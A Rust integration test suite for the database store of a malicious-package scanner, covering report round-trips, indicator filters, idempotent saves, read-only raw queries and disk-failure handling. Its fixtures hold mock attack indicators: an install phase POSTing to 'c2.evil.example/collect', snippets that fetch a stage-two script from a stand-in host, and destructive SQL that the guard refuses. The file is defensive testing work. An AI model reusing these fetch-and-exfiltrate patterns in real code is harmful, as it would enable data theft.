//! The store against real databases: an SQLite file in a temporary directory and a
//! throwaway PostgreSQL server (`ossprey_testkit::postgres`). PostgreSQL tests print
//! `SKIP: <reason>` when the server cannot be started here; the full-disk and
//! read-only-filesystem tests need root (they mount a tiny tmpfs) and skip otherwise.

use std::path::{Path, PathBuf};
use std::process::Command;

use ossprey_model::Report;
use ossprey_store::time::OffsetDateTime;
use ossprey_store::{Backend, Filter, Store, StoreError, Verdict};
use ossprey_testkit::postgres::PgServer;
use serde_json::{Value, json};

// ---------------------------------------------------------------- fixtures

/// A report as the pipeline writes it. `net` adds a dynamic phase that resolved
/// `c2.evil.example`, connected to 203.0.113.7:443 and sent an HTTP request.
fn report(target: &str, sha: &str, verdict: &str, findings: Value, net: bool) -> Report {
    let (eco, rest) = target.split_once(':').unwrap_or(("pypi", target));
    let (name, version) = rest.rsplit_once('@').unwrap_or((rest, "1.0.0"));
    let mut r = json!({
        "schema_version": ossprey_model::SCHEMA_VERSION,
        "target": target,
        "package": {"ecosystem": eco, "name": name, "version": version},
        "sha256": sha,
        "verdict": verdict,
        "score": if verdict == "malicious" { 9.5 } else { 0.5 },
        "findings": findings,
        "artifact": {"sha256": sha, "size": 1234, "source": {
            "kind": "registry", "url": format!("https://files.example/{name}.tar.gz"),
            "filename": format!("{name}.tar.gz"), "verified_digest": format!("sha256:{sha}")}},
        "duration_ms": 42,
        "error": null,
    });
    if net {
        r["dynamic"] = json!({"install": {
            "status": "completed", "duration_ms": 1500, "command": ["pip", "install", "."],
            "processes": [], "files": [],
            "sockets": [{"pid": 7, "op": "connect", "family": "inet", "address": "203.0.113.7",
                         "port": 443, "hostnames": ["c2.evil.example"], "result": 0, "time_ms": 5}],
            "network": {
                "dns": [{"hostname": "C2.Evil.Example.", "type": "A", "resolver": "10.0.0.1",
                         "transport": "udp", "answer": "203.0.113.7", "time_ms": 4}],
                "connections": [{"protocol": "tcp", "address": "203.0.113.7", "port": 443,
                    "hostname": "c2.evil.example", "kind": "http", "time_ms": 5, "duration_ms": 3,
                    "bytes_total": 80, "bytes_prefix_base64": "", "truncated": false,
                    "http": [{"method": "POST", "host": "c2.evil.example", "path": "/collect",
                              "headers": [], "body_base64": "", "body_len": 0,
                              "body_truncated": false}]}],
                "datagrams": []},
            "stdout": {"text": "nul \u{0} in output", "total_bytes": 14, "truncated": false},
            "stderr": {"text": "", "total_bytes": 0, "truncated": false},
            "isolation": {"interfaces": ["lo"], "landlock": "full", "cgroup": true}}});
    }
    serde_json::from_value(r).expect("fixture report parses")
}

fn finding(rule: &str, category: &str, snippet: &str) -> Value {
    json!({"rule": rule, "severity": "high", "category": category,
           "message": format!("{rule} fired"), "evidence": {"file": "setup.py", "line": 3,
           "snippet": snippet}})
}

/// Three reports that the filters tell apart.
fn corpus() -> Vec<Report> {
    vec![
        report(
            "pypi:evilpkg@1.0.0",
            &"a".repeat(64),
            "malicious",
            json!([
                finding("OSS-PY-EXEC-B64", "obfuscation", "exec(b64decode(...))"),
                finding(
                    "OSS-NET-URL",
                    "network",
                    "urlopen('http://stage2.badcdn.example:8080/p.sh')"
                ),
            ]),
            true,
        ),
        report(
            "npm:@scope/left-pad@2.0.0",
            &"b".repeat(64),
            "suspicious",
            json!([finding(
                "OSS-JS-INSTALL-HOOK",
                "install-hook",
                "sock.connect('198.51.100.9')"
            )]),
            false,
        ),
        report(
            "pypi:requests@2.32.3",
            &"c".repeat(64),
            "benign",
            json!([]),
            false,
        ),
    ]
}

struct Sqlite {
    _dir: tempfile::TempDir,
    path: PathBuf,
    store: Store,
}

fn sqlite() -> Sqlite {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("nested/dir/ossprey.db");
    let store = Store::open(&format!("sqlite://{}", path.display())).expect("open sqlite");
    assert_eq!(store.backend(), Backend::Sqlite);
    Sqlite {
        _dir: dir,
        path,
        store,
    }
}

/// Starts PostgreSQL and opens a store on a fresh database, or prints why not.
fn postgres(test: &str) -> Option<(PgServer, Store)> {
    let server = match PgServer::start() {
        Ok(s) => s,
        Err(reason) => {
            println!("SKIP: {test}: {reason}");
            return None;
        }
    };
    let url = server.create_database("ossprey_test").expect("createdb");
    let store = Store::open(&url).unwrap_or_else(|e| panic!("open {url}: {e}\n{}", server.log()));
    assert_eq!(store.backend(), Backend::Postgres);
    Some((server, store))
}

fn targets(found: &[ossprey_store::StoredAnalysis]) -> Vec<String> {
    found.iter().map(|a| a.report.target.clone()).collect()
}

fn count(store: &Store, table: &str) -> i64 {
    store.count_rows(table).expect("count rows")
}

// ---------------------------------------------------------------- scenarios

/// Every field of every report comes back as saved, and the pivot tables hold the
/// report's findings and network indicators.
fn roundtrip(store: &Store) {
    let reports = corpus();
    let mut ids = Vec::new();
    for r in &reports {
        ids.push(store.save_report(r, "analyze").expect("save"));
    }
    let found = store.find_analyses(&Filter::default()).expect("find");
    assert_eq!(found.len(), 3);
    // Newest first.
    assert_eq!(
        found.iter().map(|a| a.id).collect::<Vec<_>>(),
        ids.iter().rev().copied().collect::<Vec<_>>()
    );
    for a in &found {
        let original = reports
            .iter()
            .find(|r| r.target == a.report.target)
            .expect("saved target");
        assert_eq!(&a.report, original, "report {} changed in the store", a.id);
        assert_eq!(a.kind, "analyze");
        assert!(
            a.created_at.ends_with('Z') && a.created_at.len() == 27,
            "{}",
            a.created_at
        );
    }
    assert_eq!(count(store, "analyses"), 3);
    assert_eq!(count(store, "findings"), 3);
    assert_eq!(count(store, "packages"), 3);
    assert_eq!(count(store, "versions"), 3);
    assert_eq!(count(store, "artifacts"), 3);

    let rows = store
        .raw_query(
            "SELECT source, domain, ip, port, url FROM indicators \
             ORDER BY source, domain, ip, url",
        )
        .expect("indicators");
    let has = |source: &str, domain: Option<&str>, ip: Option<&str>, port: Option<i64>| {
        rows.iter().any(|r| {
            r["source"] == source
                && r["domain"].as_str() == domain
                && r["ip"].as_str() == ip
                && r["port"].as_i64() == port
        })
    };
    assert!(has("dns", Some("c2.evil.example"), None, None), "{rows:#?}");
    assert!(
        has(
            "connection",
            Some("c2.evil.example"),
            Some("203.0.113.7"),
            Some(443)
        ),
        "{rows:#?}"
    );
    assert!(
        has(
            "socket",
            Some("c2.evil.example"),
            Some("203.0.113.7"),
            Some(443)
        ),
        "{rows:#?}"
    );
    assert!(
        rows.iter()
            .any(|r| r["source"] == "http" && r["url"] == "http://c2.evil.example/collect"),
        "{rows:#?}"
    );
    assert!(
        has("static", Some("stage2.badcdn.example"), None, Some(8080)),
        "{rows:#?}"
    );
    assert!(has("static", None, Some("198.51.100.9"), None), "{rows:#?}");

    let analysis = store
        .raw_query(
            "SELECT status, verdict, score, duration_ms, install_ms, schema_version, \
             artifact_sha256, ecosystem, name, version FROM analyses ORDER BY id",
        )
        .expect("analyses");
    assert_eq!(analysis[0]["status"], "done");
    assert_eq!(analysis[0]["verdict"], "malicious");
    assert_eq!(analysis[0]["score"], 9.5);
    assert_eq!(analysis[0]["install_ms"], 1500);
    assert_eq!(analysis[0]["schema_version"], ossprey_model::SCHEMA_VERSION);
    assert_eq!(analysis[1]["name"], "@scope/left-pad");
    assert_eq!(analysis[1]["install_ms"], Value::Null);
}

/// Each filter alone, then combined, matches exactly the right reports.
fn filters(store: &Store) {
    for r in corpus() {
        store.save_report(&r, "scan").expect("save");
    }
    let find = |f: Filter| targets(&store.find_analyses(&f).expect("find"));
    let evil = "pypi:evilpkg@1.0.0".to_owned();
    let pad = "npm:@scope/left-pad@2.0.0".to_owned();
    let req = "pypi:requests@2.32.3".to_owned();

    assert_eq!(
        find(Filter {
            verdict: Some(Verdict::Malicious),
            ..Filter::default()
        }),
        vec![evil.clone()]
    );
    assert_eq!(
        find(Filter {
            verdict: Some(Verdict::Benign),
            ..Filter::default()
        }),
        vec![req.clone()]
    );
    assert_eq!(
        find(Filter {
            rule: Some("OSS-JS-INSTALL-HOOK".into()),
            ..Filter::default()
        }),
        vec![pad.clone()]
    );
    assert_eq!(
        find(Filter {
            category: Some("obfuscation".into()),
            ..Filter::default()
        }),
        vec![evil.clone()]
    );
    // Exact domain, a parent domain, case and trailing dot; a look-alike does not match.
    for domain in [
        "c2.evil.example",
        "evil.example",
        "EVIL.example.",
        "badcdn.example",
    ] {
        assert_eq!(
            find(Filter {
                domain: Some(domain.into()),
                ..Filter::default()
            }),
            vec![evil.clone()],
            "{domain}"
        );
    }
    for domain in ["vil.example", "example.com", "%.example", "_vil.example"] {
        assert!(
            find(Filter {
                domain: Some(domain.into()),
                ..Filter::default()
            })
            .is_empty(),
            "{domain}"
        );
    }
    assert_eq!(
        find(Filter {
            ip: Some("203.0.113.7".into()),
            ..Filter::default()
        }),
        vec![evil.clone()]
    );
    assert_eq!(
        find(Filter {
            ip: Some("198.51.100.9".into()),
            ..Filter::default()
        }),
        vec![pad.clone()]
    );
    for (package, want) in [
        ("pypi:evilpkg", vec![evil.clone()]),
        ("pypi:EvilPkg@1.0.0", vec![evil.clone()]),
        ("evilpkg", vec![evil.clone()]),
        ("pypi:evilpkg@9.9.9", vec![]),
        ("npm:evilpkg", vec![]),
        ("npm:@scope/left-pad@2.0.0", vec![pad.clone()]),
        ("@scope/left-pad", vec![pad.clone()]),
    ] {
        assert_eq!(
            find(Filter {
                package: Some(package.into()),
                ..Filter::default()
            }),
            want,
            "{package}"
        );
    }
    assert!(matches!(
        store.find_analyses(&Filter {
            package: Some("cpan:Foo".into()),
            ..Filter::default()
        }),
        Err(StoreError::InvalidFilter(_))
    ));
    assert_eq!(
        find(Filter {
            sha256: Some("B".repeat(64)),
            ..Filter::default()
        }),
        vec![pad.clone()]
    );

    // Time: everything so far is before `mid`; one more report after it.
    std::thread::sleep(std::time::Duration::from_millis(20));
    let mid = OffsetDateTime::now_utc();
    std::thread::sleep(std::time::Duration::from_millis(20));
    let late = report(
        "crates:late@0.1.0",
        &"d".repeat(64),
        "benign",
        json!([]),
        false,
    );
    store.save_report(&late, "scan").expect("save late");
    assert_eq!(
        find(Filter {
            since: Some(mid),
            ..Filter::default()
        }),
        vec!["crates:late@0.1.0".to_owned()]
    );
    assert_eq!(
        find(Filter {
            until: Some(mid),
            ..Filter::default()
        }),
        vec![req.clone(), pad.clone(), evil.clone()]
    );
    assert_eq!(
        find(Filter {
            limit: Some(2),
            ..Filter::default()
        }),
        vec!["crates:late@0.1.0".to_owned(), req.clone()]
    );
    // Combined filters are ANDed.
    assert_eq!(
        find(Filter {
            verdict: Some(Verdict::Malicious),
            domain: Some("evil.example".into()),
            until: Some(mid),
            ..Filter::default()
        }),
        vec![evil.clone()]
    );
    assert!(
        find(Filter {
            verdict: Some(Verdict::Benign),
            domain: Some("evil.example".into()),
            ..Filter::default()
        })
        .is_empty()
    );
}

/// The same report of the same kind saved twice is stored once; a different kind
/// or a changed report is a new analysis.
fn idempotence(store: &Store) {
    let r = corpus().remove(0);
    let first = store.save_report(&r, "analyze").expect("save");
    let again = store.save_report(&r, "analyze").expect("save again");
    assert_eq!(first, again);
    assert_eq!(count(store, "analyses"), 1);
    assert_eq!(count(store, "findings"), 2);
    let indicators = count(store, "indicators");

    let as_scan = store.save_report(&r, "scan").expect("save as scan");
    assert_ne!(as_scan, first);
    let mut rerun = r.clone();
    rerun.duration_ms += 1;
    let rerun_id = store.save_report(&rerun, "analyze").expect("save rerun");
    assert_ne!(rerun_id, first);
    assert_eq!(count(store, "analyses"), 3);
    assert_eq!(count(store, "findings"), 6);
    assert_eq!(count(store, "indicators"), indicators * 3);
    // Package, version and artifact rows are shared, not duplicated.
    assert_eq!(count(store, "packages"), 1);
    assert_eq!(count(store, "versions"), 1);
    assert_eq!(count(store, "artifacts"), 1);
}

/// `raw_query` answers queries and the database refuses every kind of write.
fn raw_read_only(store: &Store) {
    let r = corpus().remove(0);
    store.save_report(&r, "scan").expect("save");
    let rows = store
        .raw_query(
            "SELECT a.name, COUNT(*) AS n, MAX(a.score) AS top FROM analyses a \
             JOIN findings f ON f.analysis_id = a.id GROUP BY a.name;",
        )
        .expect("select");
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["name"], "evilpkg");
    assert_eq!(rows[0]["n"], 2);
    assert_eq!(rows[0]["top"], 9.5);

    for sql in [
        "DELETE FROM analyses",
        "UPDATE analyses SET verdict = 'benign'",
        "INSERT INTO feed_cursors (feed, cursor, updated_at) VALUES ('x', 'y', 'z')",
        "DROP TABLE findings",
        "CREATE TABLE evil (x INTEGER)",
        "WITH d AS (DELETE FROM findings RETURNING id) SELECT * FROM d",
    ] {
        let result = store.raw_query(sql);
        assert!(result.is_err(), "{sql} was allowed: {result:?}");
    }
    // Plain writes are refused *as writes* (not as, say, syntax errors).
    assert!(
        matches!(
            store.raw_query("DELETE FROM analyses"),
            Err(StoreError::WriteRefused { .. })
        ),
        "{:?}",
        store.raw_query("DELETE FROM analyses")
    );
    assert_eq!(count(store, "analyses"), 1);
    assert_eq!(count(store, "findings"), 2);
    assert_eq!(count(store, "feed_cursors"), 0);
    // The store still writes normally afterwards.
    store.set_feed_cursor("pypi-rss", "42").expect("cursor");
    assert_eq!(
        store.feed_cursor("pypi-rss").expect("cursor").as_deref(),
        Some("42")
    );
}

fn feeds(store: &Store) {
    assert_eq!(store.feed_cursor("npm").expect("cursor"), None);
    store.set_feed_cursor("npm", "seq-1").expect("set");
    store.set_feed_cursor("npm", "seq-2").expect("set");
    store.set_feed_cursor("pypi", "serial-9").expect("set");
    assert_eq!(
        store.feed_cursor("npm").expect("get").as_deref(),
        Some("seq-2")
    );
    assert_eq!(
        store.feed_cursor("pypi").expect("get").as_deref(),
        Some("serial-9")
    );
    store
        .record_feed_gap("npm", "seq-2 -> seq-900: 898 changes missed")
        .expect("gap");
    let gaps = store.feed_gaps("npm").expect("gaps");
    assert_eq!(gaps.len(), 1);
    assert!(gaps[0].1.contains("898"));
    assert!(store.feed_gaps("pypi").expect("gaps").is_empty());
}

/// The example SQL of docs/store.md runs on this backend, and the pivot finds the
/// package that contacted the domain.
fn doc_queries(store: &Store) {
    for r in corpus() {
        store.save_report(&r, "analyze").expect("save");
    }
    // The same bytes republished under another name.
    let copy = report(
        "pypi:evil-pkg@1.0.0",
        &"a".repeat(64),
        "malicious",
        json!([]),
        false,
    );
    store.save_report(&copy, "scan").expect("save copy");
    store.set_feed_cursor("npm", "7").expect("cursor");
    let doc = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/store.md"))
        .expect("docs/store.md");
    let queries: Vec<&str> = doc
        .split("```sql\n")
        .skip(1)
        .filter_map(|block| block.split("```").next())
        .collect();
    assert!(queries.len() >= 5, "found {} queries", queries.len());
    for sql in &queries {
        let rows = store
            .raw_query(sql)
            .unwrap_or_else(|e| panic!("{e}\n{sql}"));
        assert!(!rows.is_empty(), "no rows from\n{sql}");
    }
    let pivot = store.raw_query(queries[0]).expect("pivot");
    assert!(pivot.iter().all(|r| r["name"] == "evilpkg"), "{pivot:?}");
}

// ---------------------------------------------------------------- SQLite

#[test]
fn sqlite_doc_queries_run() {
    doc_queries(&sqlite().store);
}

#[test]
fn sqlite_roundtrip() {
    let db = sqlite();
    roundtrip(&db.store);
    assert!(db.path.exists());
}

#[test]
fn sqlite_filters() {
    filters(&sqlite().store);
}

#[test]
fn sqlite_idempotent_save() {
    idempotence(&sqlite().store);
}

#[test]
fn sqlite_raw_query_is_read_only() {
    let db = sqlite();
    raw_read_only(&db.store);
    // SQLite statements that write elsewhere than the database's tables.
    let copy = db.path.with_file_name("copy.db");
    let attached = db.path.with_file_name("attached.db");
    for sql in [
        format!("VACUUM INTO '{}'", copy.display()),
        // A second statement is run too: the guard must see it.
        format!("SELECT 1; VACUUM INTO '{}'", copy.display()),
        format!("ATTACH DATABASE '{}' AS other", attached.display()),
        "PRAGMA user_version = 7".to_owned(),
    ] {
        let result = db.store.raw_query(&sql);
        println!("{sql}: {result:?}");
        assert!(result.is_err(), "{sql} was allowed");
    }
    assert!(!copy.exists(), "VACUUM INTO wrote a copy");
    assert!(!attached.exists(), "ATTACH created a file");
}

#[test]
fn sqlite_feed_cursors_and_gaps() {
    feeds(&sqlite().store);
}

#[test]
fn sqlite_file_is_shared_and_wal() {
    let db = sqlite();
    let url = format!("sqlite://{}", db.path.display());
    // A second handle (another process would do the same) sees the first's writes.
    let other = Store::open(&url).expect("second open");
    let id = db.store.save_report(&corpus()[0], "scan").expect("save");
    let seen = other.find_analyses(&Filter::default()).expect("find");
    assert_eq!(seen.iter().map(|a| a.id).collect::<Vec<_>>(), vec![id]);
    let mode = other.raw_query("PRAGMA journal_mode").expect("pragma");
    assert_eq!(mode[0]["journal_mode"], "wal");
}

/// Workers started together all open (and migrate) a fresh file at once; SQLite has
/// no migration lock, so the losers must retry rather than fail.
#[test]
fn sqlite_concurrent_first_open() {
    let dir = tempfile::tempdir().expect("tempdir");
    let url = format!("sqlite://{}", dir.path().join("fresh.db").display());
    let results: Vec<Result<(), String>> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..6)
            .map(|i| {
                let url = url.clone();
                s.spawn(move || {
                    let store = Store::open(&url).map_err(|e| e.to_string())?;
                    store
                        .set_feed_cursor(&format!("feed-{i}"), "1")
                        .map_err(|e| e.to_string())
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().unwrap_or_else(|_| Err("panicked".into())))
            .collect()
    });
    for r in &results {
        assert!(r.is_ok(), "{results:?}");
    }
    let store = Store::open(&url).expect("open");
    assert_eq!(count(&store, "feed_cursors"), 6);
}

#[test]
fn default_url_honours_ossprey_db() {
    // Only reads the variable: the test does not set it (tests share the process
    // environment), so it checks the fallback's shape.
    let url = Store::default_url();
    match std::env::var("OSSPREY_DB") {
        Ok(v) if !v.trim().is_empty() => assert_eq!(url, v),
        _ => assert!(
            url.starts_with("sqlite://") && url.ends_with("ossprey/ossprey.db"),
            "{url}"
        ),
    }
}

#[test]
fn bad_urls_are_clear_errors() {
    for url in ["mysql://x/y", "sqlite://", "sqlite::memory:", "ossprey.db"] {
        match Store::open(url) {
            Err(StoreError::InvalidUrl { .. }) => {}
            other => panic!("{url}: {other:?}"),
        }
    }
    // A PostgreSQL server that is not there: an error naming it, without the password.
    match Store::open("postgres://me:hunter2@127.0.0.1:1/db") {
        Err(e) => {
            let msg = e.to_string();
            assert!(
                msg.contains("127.0.0.1:1") && !msg.contains("hunter2"),
                "{msg}"
            );
        }
        Ok(_) => panic!("connected to port 1"),
    }
}

// ---------------------------------------------------------------- PostgreSQL

#[test]
fn postgres_roundtrip() {
    if let Some((_server, store)) = postgres("postgres_roundtrip") {
        roundtrip(&store);
    }
}

#[test]
fn postgres_filters() {
    if let Some((_server, store)) = postgres("postgres_filters") {
        filters(&store);
    }
}

#[test]
fn postgres_idempotent_save() {
    if let Some((_server, store)) = postgres("postgres_idempotent_save") {
        idempotence(&store);
    }
}

#[test]
fn postgres_raw_query_is_read_only() {
    if let Some((_server, store)) = postgres("postgres_raw_query_is_read_only") {
        raw_read_only(&store);
        // Session settings a raw query makes do not leak into the writers' pool.
        store
            .raw_query("SET default_transaction_read_only = on")
            .ok();
        store
            .set_feed_cursor("after-set", "1")
            .expect("pool still writable");
        // Numeric and timestamp columns come back as JSON too.
        let rows = store
            .raw_query("SELECT AVG(score) AS avg, now() AS at FROM analyses")
            .expect("numeric");
        assert_eq!(rows[0]["avg"], 9.5);
        assert!(rows[0]["at"].is_string());
    }
}

#[test]
fn postgres_doc_queries_run() {
    if let Some((_server, store)) = postgres("postgres_doc_queries_run") {
        doc_queries(&store);
    }
}

#[test]
fn postgres_feed_cursors_and_gaps() {
    if let Some((_server, store)) = postgres("postgres_feed_cursors_and_gaps") {
        feeds(&store);
    }
}

/// A database set read-only: the save fails as `ReadOnly`, and nothing of the
/// report (no finding, no indicator) is left behind.
#[test]
fn postgres_read_only_database_refuses_saves_cleanly() {
    let Some((server, store)) = postgres("postgres_read_only_database") else {
        return;
    };
    store.save_report(&corpus()[0], "scan").expect("first save");
    // Make the test database read-only for new sessions, from another database.
    let status = Command::new(find_psql().unwrap_or_else(|| PathBuf::from("psql")))
        .args(["-h", "127.0.0.1", "-U", "ossprey", "-p"])
        .arg(server.port().to_string())
        .args([
            "-d",
            "postgres",
            "-c",
            "ALTER DATABASE ossprey_test SET default_transaction_read_only = on",
        ])
        .status();
    if !status.is_ok_and(|s| s.success()) {
        println!("SKIP: postgres_read_only_database: psql could not alter the database");
        return;
    }
    // New sessions pick the setting up.
    let ro = Store::open(&server.url_for("ossprey_test"));
    let ro = match ro {
        Ok(s) => s,
        Err(e) => {
            // Opening may already refuse (migrations table lock); it must say why.
            assert!(matches!(e, StoreError::ReadOnly { .. }), "{e}");
            return;
        }
    };
    let err = ro
        .save_report(&corpus()[1], "scan")
        .expect_err("saved into a read-only db");
    assert!(matches!(err, StoreError::ReadOnly { .. }), "{err}");
    assert!(err.to_string().contains("read-only"), "{err}");
    assert_eq!(count(&ro, "analyses"), 1);
    assert_eq!(count(&ro, "findings"), 2);
}

fn find_psql() -> Option<PathBuf> {
    let mut dirs: Vec<PathBuf> = std::fs::read_dir("/usr/lib/postgresql")
        .ok()?
        .flatten()
        .map(|e| e.path().join("bin/psql"))
        .filter(|p| p.is_file())
        .collect();
    dirs.sort();
    dirs.pop()
}

// ---------------------------------------------------------------- full disk, read-only fs

/// A tmpfs mounted for one test, unmounted on drop.
struct TinyFs {
    dir: tempfile::TempDir,
}

impl TinyFs {
    fn mount(size: &str) -> Result<TinyFs, String> {
        let euid_root = std::fs::metadata("/proc/self")
            .is_ok_and(|m| std::os::unix::fs::MetadataExt::uid(&m) == 0);
        if !euid_root {
            return Err("not root: cannot mount a small tmpfs".into());
        }
        let dir = tempfile::tempdir().map_err(|e| e.to_string())?;
        let ok = Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size}"), "ossprey-test"])
            .arg(dir.path())
            .status()
            .is_ok_and(|s| s.success());
        if !ok {
            return Err("mount -t tmpfs failed (no CAP_SYS_ADMIN here?)".into());
        }
        Ok(TinyFs { dir })
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn remount(&self, options: &str) -> bool {
        Command::new("mount")
            .args(["-o", &format!("remount,{options}")])
            .arg(self.dir.path())
            .status()
            .is_ok_and(|s| s.success())
    }
}

impl Drop for TinyFs {
    fn drop(&mut self) {
        let _ = Command::new("umount")
            .arg("-l")
            .arg(self.dir.path())
            .status();
    }
}

/// A report whose JSON is about `kib` KiB, so a few of them fill a tiny disk.
fn big_report(n: usize, kib: usize) -> Report {
    let filler: String = (0..kib * 1024)
        .map(|i| char::from(b'a' + ((i * 7 + n) % 26) as u8))
        .collect();
    report(
        &format!("pypi:big{n}@1.0"),
        &format!("{n:064x}"),
        "suspicious",
        json!([finding("OSS-BIG", "obfuscation", &filler)]),
        false,
    )
}

fn integrity_ok(path: &Path) {
    let store = Store::open(&format!("sqlite://{}", path.display())).expect("reopen");
    let check = store
        .raw_query("PRAGMA integrity_check")
        .expect("integrity_check");
    assert_eq!(check[0]["integrity_check"], "ok", "{check:?}");
}

#[test]
fn sqlite_full_disk_is_a_clear_error_and_loses_nothing_saved() {
    let fs = match TinyFs::mount("2m") {
        Ok(fs) => fs,
        Err(reason) => {
            println!("SKIP: sqlite_full_disk: {reason}");
            return;
        }
    };
    let path = fs.path().join("ossprey.db");
    let store = Store::open(&format!("sqlite://{}", path.display())).expect("open");
    let mut saved = Vec::new();
    let mut failure = None;
    for n in 0..200 {
        let r = big_report(n, 64);
        match store.save_report(&r, "scan") {
            Ok(id) => saved.push((id, r.target.clone())),
            Err(e) => {
                failure = Some((e, r.target.clone()));
                break;
            }
        }
    }
    let (err, lost_target) = failure.expect("a 2 MiB disk never filled up");
    assert!(
        matches!(err, StoreError::DiskFull { .. }),
        "not reported as a full disk: {err:?}"
    );
    assert!(err.to_string().contains("out of space"), "{err}");
    println!("full disk after {} reports: {err}", saved.len());
    assert!(!saved.is_empty());
    // Exactly the reports that were acknowledged are stored, the failed one is not.
    let stored = store
        .find_analyses(&Filter::default())
        .expect("find after full");
    let mut stored_ids: Vec<i64> = stored.iter().map(|a| a.id).collect();
    stored_ids.sort();
    assert_eq!(
        stored_ids,
        saved.iter().map(|(id, _)| *id).collect::<Vec<_>>()
    );
    assert!(stored.iter().all(|a| a.report.target != lost_target));
    assert_eq!(count(&store, "findings"), saved.len() as i64);
    drop(store);
    // With room again the database is intact and takes the report.
    assert!(fs.remount("size=64m"), "remount bigger");
    integrity_ok(&path);
    let store = Store::open(&format!("sqlite://{}", path.display())).expect("reopen");
    let r = big_report(999, 64);
    store
        .save_report(&r, "scan")
        .expect("save after space freed");
    assert_eq!(count(&store, "analyses"), saved.len() as i64 + 1);
}

#[test]
fn sqlite_read_only_filesystem_is_a_clear_error() {
    let fs = match TinyFs::mount("16m") {
        Ok(fs) => fs,
        Err(reason) => {
            println!("SKIP: sqlite_read_only_filesystem: {reason}");
            return;
        }
    };
    let path = fs.path().join("ossprey.db");
    let url = format!("sqlite://{}", path.display());
    {
        let store = Store::open(&url).expect("open");
        store.save_report(&corpus()[0], "scan").expect("save");
    }
    assert!(fs.remount("ro"), "remount read-only");
    // Either opening refuses, or opening works (reads are possible) and saving
    // refuses; both must say read-only, and nothing may be counted as saved.
    match Store::open(&url) {
        Err(e) => {
            let msg = e.to_string();
            println!("read-only filesystem, open: {msg}");
            assert!(matches!(e, StoreError::ReadOnly { .. }), "{e:?}");
            assert!(msg.contains(&path.display().to_string()), "{msg}");
            assert!(msg.contains("read-only"), "{msg}");
        }
        Ok(store) => {
            let err = store
                .save_report(&corpus()[1], "scan")
                .expect_err("saved on a read-only filesystem");
            println!("read-only filesystem, save: {err}");
            assert!(matches!(err, StoreError::ReadOnly { .. }), "{err:?}");
        }
    }
    assert!(fs.remount("rw"), "remount read-write");
    integrity_ok(&path);
    let store = Store::open(&url).expect("reopen");
    assert_eq!(count(&store, "analyses"), 1);
    assert_eq!(count(&store, "findings"), 2);
}

/// A database file the process may not write (non-root: chmod; root bypasses file
/// modes, so this case is covered by the read-only filesystem test above).
#[test]
fn sqlite_read_only_file_is_a_clear_error() {
    let euid_root =
        std::fs::metadata("/proc/self").is_ok_and(|m| std::os::unix::fs::MetadataExt::uid(&m) == 0);
    if euid_root {
        println!(
            "SKIP: sqlite_read_only_file: root ignores file modes (see the read-only filesystem test)"
        );
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("ossprey.db");
    let url = format!("sqlite://{}", path.display());
    {
        let store = Store::open(&url).expect("open");
        store.save_report(&corpus()[0], "scan").expect("save");
    }
    for p in [path.clone(), dir.path().to_path_buf()] {
        let mode = if p == path { 0o444 } else { 0o555 };
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).expect("chmod");
    }
    let outcome = Store::open(&url).and_then(|s| s.save_report(&corpus()[1], "scan"));
    let err = outcome.expect_err("saved into a read-only file");
    assert!(matches!(err, StoreError::ReadOnly { .. }), "{err:?}");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let store = Store::open(&url).expect("reopen");
    assert_eq!(count(&store, "analyses"), 1);
}

// ---------------------------------------------------------------- benchmark

/// Not a test: how fast reports are saved (one transaction each).
/// `cargo test --release -p ossprey-store --test store -- --ignored --nocapture save_throughput`
#[test]
#[ignore = "benchmark: run with --release -- --ignored --nocapture save_throughput"]
fn save_throughput() {
    fn measure(name: &str, store: &Store) {
        let base = corpus().remove(0);
        let n = 500;
        let start = std::time::Instant::now();
        for i in 0..n {
            let mut r = base.clone();
            r.target = format!("pypi:evilpkg{i}@1.0.0");
            store.save_report(&r, "analyze").expect("save");
        }
        let secs = start.elapsed().as_secs_f64();
        let found = std::time::Instant::now();
        let hits = store
            .find_analyses(&Filter {
                domain: Some("evil.example".into()),
                ..Filter::default()
            })
            .expect("find");
        println!(
            "{name}: {n} saves in {secs:.2}s = {:.0} reports/s; domain pivot over {} analyses: {:.1} ms",
            f64::from(n) / secs,
            hits.len(),
            found.elapsed().as_secs_f64() * 1000.0
        );
    }
    measure("sqlite", &sqlite().store);
    if let Some((_server, store)) = postgres("save_throughput") {
        measure("postgres", &store);
    }
}
